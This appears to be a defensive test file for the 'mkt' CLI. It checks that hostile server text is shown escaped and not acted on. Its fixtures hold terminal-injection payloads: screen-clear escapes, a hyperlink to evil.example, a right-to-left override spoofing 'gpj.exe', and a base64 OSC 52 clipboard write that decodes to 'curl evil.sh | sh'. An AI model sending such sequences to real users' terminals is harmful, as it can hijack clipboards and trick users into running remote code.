// A server that answers with hostile text: escape sequences and bidi overrides in names and error
// messages reach the terminal shown escaped, never obeyed; --json keeps the bytes as they are.
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { runMkt, tempDir } from '../support/cli.js';
import { startServer, type TestServer } from '../support/server.js';

const CLEAR = '\u001b[2J\u001b[H';
const CLIPBOARD = '\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007';
const LINK = '\u001b]8;;https://evil.example\u001b\\click\u001b]8;;\u001b\\';
const RLO = '\u202e';
const HOSTILE = `Ann${CLEAR}${CLIPBOARD}${LINK}${RLO}gpj.exe\u009b31m`;

let dir: { path: string; remove(): Promise<void> };
let server: TestServer | undefined;
beforeEach(async () => {
  dir = await tempDir();
});
afterEach(async () => {
  await server?.close();
  server = undefined;
  await dir.remove();
});

const mkt = (args: string[], extra: Record<string, string> = {}) =>
  runMkt(args, dir.path, {
    env: { MKT_SITE_URL: server!.url, MKT_API_KEY: 'test_hostile', MKT_HTTP_TIMEOUT: '5', ...extra },
  });

/** No raw control or bidi character but mkt's own colours; each hostile one is there, escaped. */
function expectDefused(styled: string) {
  // eslint-disable-next-line no-control-regex -- mkt's own colour and style sequences
  const text = styled.replace(/\u001b\[[0-9;]*m/g, '');
  // eslint-disable-next-line no-control-regex -- the characters that must not reach a terminal
  expect(text).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/);
  expect(text).toContain('\\u001b[2J');
  expect(text).toContain('\\u001b]52;c;');
  expect(text).toContain('\\u202egpj.exe');
}

describe('text from a hostile server', () => {
  it('is shown escaped by whoami, piped and with colour forced, and kept as sent with --json', async () => {
    server = await startServer((_req, res) => {
      res.writeHead(200, { 'content-type': 'application/json' });
      res.end(JSON.stringify({ id: 'usr_1', name: HOSTILE, email: `a${RLO}@example.com`, avatar_url: null }));
    });
    for (const env of [{}, { FORCE_COLOR: '1' }]) {
      const res = await mkt(['whoami'], env);
      expect(res.code, res.stderr).toBe(0);
      expectDefused(res.stdout);
    }
    const json = await mkt(['whoami', '--json']);
    expect(JSON.parse(json.stdout).name).toBe(HOSTILE);
  });

  it('is shown escaped in an error message', async () => {
    server = await startServer((_req, res) => {
      res.writeHead(400, { 'content-type': 'application/json' });
      res.end(JSON.stringify({ error: { code: 'bad', message: `Refused ${HOSTILE}` } }));
    });
    const res = await mkt(['whoami']);
    expect(res.code).toBe(1);
    expectDefused(res.stderr);
    const json = await mkt(['whoami', '--json']);
    expect(JSON.parse(json.stdout).error.message).toContain(HOSTILE);
  });
});
